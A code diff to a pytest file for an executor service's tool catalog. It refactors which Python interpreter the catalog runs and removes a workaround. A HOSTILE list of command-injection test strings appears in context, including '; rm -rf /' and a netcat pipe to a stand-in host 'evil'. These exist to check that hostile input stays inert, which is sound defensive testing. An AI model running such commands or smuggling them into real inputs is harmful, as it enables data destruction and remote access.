@@ -4,10 +4,8 @@ keeps hostile text inert, and catalogs that fail at load."""
 from __future__ import annotations
 
 import asyncio
-import dataclasses
 import hashlib
 import os
-import sys
 from pathlib import Path
 
 import pytest
@@ -15,8 +13,7 @@ import pytest
 from services.common.errors import InvalidArgument, NotFound
 from services.common.settings import ConfigError
 from services.executor.catalog import BUILTIN_CATALOG, Catalog, GoblinSpec, Limits
-from services.executor.sandbox import available_modes, run
-from tests.unit.executor.processes import PY
+from services.executor.sandbox import available_modes, run, task_python
 
 HOSTILE = ["; rm -rf /", "$(touch /tmp/goblin-pwned)", "`id`", "a && b", "x | nc evil 1", "'\"", "\n--help"]
 
@@ -43,7 +40,7 @@ def test_the_default_catalog_loads_with_absolute_executables(catalog: Catalog) -
     assert names == sorted(names)
     for spec in catalog.list():
         assert os.path.isabs(spec.argv[0]) and os.access(spec.argv[0], os.X_OK), spec.name
-    assert catalog.get("model-checksum").argv[0] == sys.executable
+    assert catalog.get("model-checksum").argv[0] == task_python()
     assert catalog.get("hello").public()["args_schema"]["properties"]["name"]["default"] == "world"
     assert "argv" not in catalog.get("hello").public()
 
@@ -215,9 +212,6 @@ async def test_model_checksum(work_root: Path, monkeypatch: pytest.MonkeyPatch) 
     catalog = Catalog.load()
     good = catalog.run_spec("model-checksum", {"path": str(model), "sha256": digest}, work_root=work_root)
     bad = catalog.run_spec("model-checksum", {"path": str(model), "sha256": "0" * 64}, work_root=work_root)
-    # The catalog runs the service's own interpreter; where the task's user cannot reach it (a pyenv
-    # Python under /root while the tests run as root), the system one runs the same standard-library code.
-    good, bad = (dataclasses.replace(s, argv=(PY, *s.argv[1:])) for s in (good, bad))
     ok = await run(good)
     assert ok.status == "succeeded" and ok.stdout_tail.endswith("checksum ok\n") and digest in ok.stdout_tail
     mismatch = await run(bad)
